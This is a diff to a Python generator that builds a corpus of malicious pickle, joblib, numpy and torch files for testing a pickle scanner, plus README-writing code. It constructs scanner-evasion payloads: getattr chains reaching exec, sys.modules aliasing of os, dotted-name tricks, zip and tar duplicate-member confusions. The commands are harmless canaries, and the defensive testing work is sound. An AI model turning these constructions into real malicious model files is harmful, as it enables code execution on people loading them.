@@ -416,6 +416,12 @@ def gen_attacks(out):
           "two archives in one file: the first end-of-central-directory record (benign data.pkl) has a comment holding a second one (malicious); miniz takes the last signature",
           "zip parser disagreement (EOCD search)", L)
 
+    c.add("a16_slash_prefix.pt", build_zip([dict(name="/data.pkl", data=P2), dict(name="/version", data=b"3\n")]), A,
+          "records named /data.pkl and /version: the archive prefix is the empty string", "zip member names", L)
+    z = bytearray(build_zip(torch_zip(P2)))
+    z[8:10] = struct.pack("<H", 8)
+    c.add("a17_local_method_field_lies.pt", bytes(z), A, "local header claims deflate, central directory says stored (miniz trusts the central directory)", "zip parser disagreement", L)
+
     # ---------------- (b) joblib raw-array extent mismatches ----------------
     B = "b_joblib_extent"
     L = "joblib.load"
@@ -476,6 +482,14 @@ def gen_attacks(out):
     c.add("b12_payload_after_array.joblib", head + pad_for(len(head)) + b"\x00" * 32 + payload_ops() + b"e.", B,
           "payload right after a well-formed aligned f8 array", "joblib layout (control)", L, modules=["joblib", "numpy"])
 
+    # dtype names whose item size numpy decides per platform (sizes here: x86-64 Linux)
+    for nm, ts, size in (("b13_dtype_longdouble", "longdouble", 16), ("b14_dtype_l_long", "l", 8), ("b15_dtype_G_clongdouble", "G", 32), ("b16_dtype_int", "int", 8)):
+        w = enc(wrapper((3,), (ts, False, True), None), 2)
+        head = b"\x80\x02](" + w
+        c.add(nm + ".joblib", head + pad_for(len(head)) + b"\x00" * (3 * size) + payload_ops() + b"e.", B,
+              f"dtype string '{ts}' (itemsize {size} on x86-64 Linux, platform-dependent): payload right after joblib's {3 * size} bytes",
+              "issue: joblib raw-array extent (dtype names)", "joblib.load", modules=["joblib", "numpy"], note="item size of this dtype is platform-dependent; verified on x86-64 Linux")
+
     # ---------------- (c) compressed joblib ---------------------------------
     Cg = "c_joblib_compressed"
     w = enc(wrapper((4,), ("f8", False, True), f8_state()), 2)
@@ -506,6 +520,10 @@ def gen_attacks(out):
     length = hex(len(plain)).encode().ljust(19)
     c.add("c07_joblib_zfile_ZF.pkl", b"ZF" + length + zf, Cg,
           "joblib < 0.10 'ZF' z-file: b'ZF', hex length padded to 19, zlib data (read_zfile)", "joblib numpy_pickle_compat.read_zfile", "joblib.load", modules=["joblib"])
+    for nm, kw, what in (("c10_xz_delta_filter", dict(filters=[{"id": lzma.FILTER_DELTA, "dist": 4}, {"id": lzma.FILTER_LZMA2}]), "xz with a delta filter before LZMA2"),
+                         ("c11_xz_x86_bcj_filter", dict(filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}]), "xz with the x86 BCJ filter"),
+                         ("c12_xz_sha256_check", dict(check=lzma.CHECK_SHA256), "xz with a SHA-256 integrity check")):
+        c.add(nm + ".joblib.xz", lzma.compress(raw_job, format=lzma.FORMAT_XZ, **kw), Cg, what + " (Python's lzma reads every xz filter and check)", "joblib compressors (xz options)", "joblib.load", modules=["joblib", "numpy"])
     c.add("c08_zlib_plain_pickle.pkl.z", zlib.compress(plain, 9), Cg, "zlib stream of a plain pickle (no wrapper)", "joblib compressors", "joblib.load", modules=["joblib"])
     c.add("c09_gzip_plain_pickle.pkl.gz", gzip.compress(plain, 9, mtime=0), Cg, "gzip of a plain pickle", "joblib compressors", "joblib.load", modules=["joblib"])
 
@@ -626,6 +644,21 @@ def gen_attacks(out):
     c.add("e16_list_map_over_globals.pkl", pkl(C(G("builtins", "list"), C(G("builtins", "map"), getattr_(glob_os, "system"), [CMD])), 4), E,
           "list(map(<os.system from __globals__>, [cmd])): the call happens inside list()", "getattr chains / indirect calls", L, modules=["pathlib"])
 
+    c.add("e17_builtins_module_dict.pkl", pkl(C(C(getattr_(G("builtins", "__dict__"), "get"), "exec"), CODE), 4), E,
+          "builtins.__dict__.get('exec')", "getattr chains (module __dict__)", L)
+    c.add("e18_json_module_builtins.pkl", pkl(C(C(getattr_(G("json", "__builtins__"), "get"), "exec"), CODE), 4), E,
+          "json.__builtins__ (every module's builtins dict) .get('exec')", "modelscan issue #330 (module __builtins__)", L, modules=["json"])
+    osmod = C(getattr_(getattr_(G("collections", "_sys"), "modules"), "get"), "os")
+    alias = C(getattr_(getattr_(G("collections", "_sys"), "modules"), "__setitem__"), "numpy.safe", osmod)
+    c.add("e19_sys_modules_alias_posix_spawn.pkl", b"\x80\x04" + enc(alias, 4) + b"0" + enc(C(G("numpy.safe", "posix_spawn"), "/bin/echo", ["echo", "pickle-attack-corpus"], {}), 4) + b".", E,
+          "sys.modules['numpy.safe'] = os (reached through collections._sys), then GLOBAL numpy.safe.posix_spawn", "picklescan sys_module_override test", L, modules=["collections", "numpy"])
+    c.add("e20_pandas_core_generic_pickle_loads.pkl", pkl(C(G("pandas.core.generic", "pickle.loads"), inner_pickle), 4, frame=True), E,
+          "pandas.core.generic + 'pickle.loads' (a dotted path out of an allowed data package)", "dotted names", L, modules=["pandas.core.generic"])
+    c.add("e21_sklearn_base_platform_os.pkl", pkl(C(G("sklearn.base", "platform.os.system"), CMD), 4, frame=True), E,
+          "sklearn.base + 'platform.os.system'", "dotted names", L, modules=["sklearn.base"])
+    c.add("e22_INST_dotted_proto4.pkl", b"\x80\x04(V" + CMD.encode() + b"\nipathlib\nos.system\n.", E,
+          "INST 'pathlib' 'os.system' in a protocol-4 stream", "dotted names (INST)", L, modules=["pathlib"])
+
     # ---------------- (f) numpy containers ----------------------------------
     F = "f_numpy"
     L = "numpy.load allow_pickle"
@@ -646,6 +679,13 @@ def gen_attacks(out):
     c.add("f10_npz_upper_NPY_suffix.npz", build_zip([dict(name="arr_0.NPY", data=npyf)]), F, ".npz member 'arr_0.NPY' (upper-case suffix)", "numpy NpzFile / case of names", L, modules=["numpy"])
     c.add("f11_object_npy_zero_size.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (0,), }", obj), F,
           "object .npy of shape (0,): numpy still unpickles the data", "numpy format read_array", L, modules=["numpy"])
+    c.add("f12_v3_unicode_field_object.npy", npy("{'descr': [('\u00e4', '|O')], 'fortran_order': False, 'shape': (1,), }", obj, 3), F,
+          ".npy v3 (utf-8 header) with a non-ASCII object field name", "numpy format v3", L, modules=["numpy"])
+    c.add("f13_descr_O8.npy", npy("{'descr': '|O8', 'fortran_order': False, 'shape': (1,), }", obj), F, "descr '|O8'", "numpy format", L, modules=["numpy"])
+    c.add("f14_nested_struct_object.npy", npy("{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (1,), }", obj), F,
+          "nested structured descr with an object field", "numpy format", L, modules=["numpy"])
+    c.add("f15_npz_duplicate_member.npz", build_zip([dict(name="arr_0.npy", data=npy("{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }", b"\x00" * 16)), dict(name="arr_0.npy", data=npyf)]), F,
+          ".npz with two members named arr_0.npy: numpy (zipfile) reads the last", "zip duplicate names", L, modules=["numpy"])
     c.add("f09_object_npy_pickle_v0.npy", npy(hdr, pkl(C(G("posix", "system"), CMD), 0)), F, ".npy whose object data is a protocol 0 pickle", "numpy format", L, modules=["numpy"])
 
     # ---------------- (g) torch legacy formats ------------------------------
@@ -665,6 +705,9 @@ def gen_attacks(out):
     c.add("g05_tar_payload_in_pickle.pt", tar_ok(pickle=pkl({"w": system()}, 2)), Gg, "pre-0.4 tar format: payload in member 'pickle'", "torch legacy_load (tar)", L)
     c.add("g06_tar_payload_in_storages.pt", tar_ok(storages=b"\x80\x02" + enc(system(), 2) + b"0K\x00." + pkl([], 2)), Gg, "pre-0.4 tar: payload in member 'storages' (its count pickle)", "torch legacy_load (tar)", L)
     c.add("g07_tar_payload_in_tensors.pt", tar_ok(tensors=b"\x80\x02" + enc(system(), 2) + b"0K\x00."), Gg, "pre-0.4 tar: payload in member 'tensors'", "torch legacy_load (tar)", L)
+    c.add("g09_tar_duplicate_pickle_member.pt", tar_bytes([("sys_info", pkl(SYS_INFO, 2)), ("pickle", benign), ("storages", pkl(0, 2) + pkl([], 2)),
+                                                           ("tensors", pkl(0, 2)), ("pickle", pkl({"w": system()}, 2))]), Gg,
+          "pre-0.4 tar with two members named 'pickle': tarfile.extractfile returns the last (malicious)", "torch legacy_load (tar member lookup)", L)
     c.add("g08_legacy_broken_after_payload.pt", legacy_torch(obj=pkl({"w": system()}, 2)[:-2] + b"\xff"), Gg, "legacy stream whose object pickle breaks right after the payload (nullifAI)", "ReversingLabs nullifAI", L)
 
     # ---------------- (h) parser-level tricks -------------------------------
@@ -981,14 +1024,101 @@ def gen_torch_negatives(out):
     return entries
 
 
+GROUPS = {
+    "a_zip": "(a) zip lookup tricks: what torch.load finds in a zip",
+    "b_joblib_extent": "(b) joblib raw-array extents: where joblib stops reading",
+    "c_joblib_compressed": "(c) compressed joblib files (every compressor, the old ZF format)",
+    "d_gadget": "(d) published gadgets: callables that run commands, load code or write files",
+    "e_dotted": "(e) dotted names and getattr chains that reach a denied module through another",
+    "f_numpy": "(f) numpy containers: object arrays in .npy / .npz",
+    "g_torch_legacy": "(g) torch legacy formats: the five-pickle stream and the pre-0.4 tar",
+    "h_parser": "(h) parser-level tricks: memo indices, frames, broken tails, odd opcodes, Python 2 names",
+    "i_nested": "(i) nested loaders: pickles inside pickles, numpy/joblib/torch loads from memory",
+}
+
+README_HEAD = """# Attack corpus for `pickle scan`
+
+Every file here runs code (or touches the system) when Python loads it the way
+its manifest entry's `loader` says, and every one must be called **dangerous**
+by `pickle scan`; none may be called safe. The techniques come from public
+advisories and scanner bug reports: picklescan's GHSA advisories and
+CVE-2025-1716 / 1889 / 1944 / 1945 / 10155 / 10156 / 10157, fickling's advisories and
+issues, modelscan issues #330 / #331 / #338 and PR #313 / #346, ReversingLabs'
+"nullifAI" broken pickles, JFrog's and Sonatype's picklescan write-ups, and
+the scanners' own test suites. The payloads are our own, assembled opcode by
+opcode; every command is harmless (`echo pickle-attack-corpus`, a write to
+`/tmp/pickle-attack-corpus-canary`, `touch` of a canary file in the
+harness's sandbox).
+
+* `tests/scripts/gen_attacks.py` writes the files and `manifest.json`
+  (stdlib only; lz4 optional, the committed `c06_lz4.joblib.lz4` is kept
+  when it is missing).
+* `tests/scripts/verify_attacks.py` loads each file in a fresh `python3 -I`
+  under a `sys.addaudithook` hook that records and *blocks* the first event
+  showing code execution (os.system, subprocess.Popen, exec/compile of
+  non-module code, file writes outside its sandbox, sockets, ...), and writes
+  `verified` into the manifest: `audit:<event>` (the call was reached and
+  blocked), `emulated audit:<event>` (torch absent: torch's loader emulated),
+  `effect:<file>` (Tcl's `exec`, which Python does not audit, left its
+  harmless canary in the sandbox), or `not run: <reason>`.
+* `tests/scan_attacks.rs` asserts the verdicts (run it with
+  `--features torch,joblib-compress`, as the CLI is built) and prints
+  `attacks: N dangerous, N unknown, N error, N safe; hard negatives: ...`.
+* `tests/scripts/compare_scanners.py --attacks ... --hard-negatives ...`
+  produced the table below.
+
+Verification here: CPython 3.11.7 with numpy 2.4.6, joblib 1.6.0,
+pandas 3.1.1, scikit-learn 1.9.1, lz4 4.4.5, torch 2.15.0 (CPU, from PyPI);
+`python_hint` entries ran under CPython 3.13.0 (`py313`: `_pyrepl`, the
+3.13 `_aix_support`) or numpy 2.3.5 (`numpy<2.4`: modelscan #330's
+`numpy.size` gadget, which numpy 2.4 rewrote). The three `not run` entries
+are torch gadgets published against older torch releases
+(`torch.utils.bottleneck.__main__`, `torch._inductor.codecache.compile_file`)
+that torch 2.15 no longer has; they stay because the scanner must flag them
+for the files of those torch versions.
+
+Regenerate: `python3 tests/scripts/gen_attacks.py` (keeps `verified` of
+unchanged entries), then `python3 tests/scripts/verify_attacks.py
+[--torch-python PY] [--alt-python py313=PY] [--alt-python 'numpy<2.4=PY']`,
+then `python3 tests/scripts/gen_attacks.py --readme TABLE.md` with the
+output of compare_scanners.py to rewrite this file.
+"""
+
+
+def write_readme(out, table_path):
+    entries = json.load(open(os.path.join(out, "manifest.json")))
+    table = open(table_path).read().strip() if table_path and os.path.exists(table_path) else "(no table)"
+    lines = [README_HEAD, "## Scanners on this corpus and on ../hard_negatives", "", table, ""]
+    counts = {}
+    for e in entries:
+        counts.setdefault(e["group"], [0, 0])
+        counts[e["group"]][0] += 1
+        if (e.get("verified") or "").startswith(("audit:", "emulated audit:", "effect:")):
+            counts[e["group"]][1] += 1
+    lines += ["## Groups", "", "| group | files | verified in CPython |", "|---|---|---|"]
+    for g, (n, v) in counts.items():
+        lines.append("| %s | %d | %d |" % (GROUPS.get(g, g), n, v))
+    lines.append("| total | %d | %d |" % (sum(n for n, _ in counts.values()), sum(v for _, v in counts.values())))
+    lines += ["", "## Every payload", "", "| file | group | technique | source | loader | verified |", "|---|---|---|---|---|---|"]
+    esc = lambda t: str(t).replace("|", "\\|").replace("\n", " ")
+    for e in entries:
+        lines.append("| %s | %s | %s | %s | %s | %s |" % (e["file"], e["group"], esc(e["technique"]), esc(e["source"]), e["loader"], esc(e.get("verified"))))
+    with open(os.path.join(out, "README.md"), "w") as f:
+        f.write("\n".join(lines) + "\n")
+
+
 def main():
     ap = argparse.ArgumentParser()
+    ap.add_argument("--readme", metavar="TABLE.md", help="attacks: only rewrite README.md from the manifest and this comparison table")
     ap.add_argument("--hard-negatives", action="store_true")
     ap.add_argument("--out")
     ap.add_argument("--part", choices=["all", "torch"], default="all",
                     help="hard negatives: 'torch' (re)writes only the torch files, from an interpreter that has torch")
     args = ap.parse_args()
     root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures")
+    if args.readme:
+        write_readme(args.out or os.path.join(root, "attacks"), args.readme)
+        return
     if args.hard_negatives:
         out = args.out or os.path.join(root, "hard_negatives")
         man = os.path.join(out, "manifest.json")
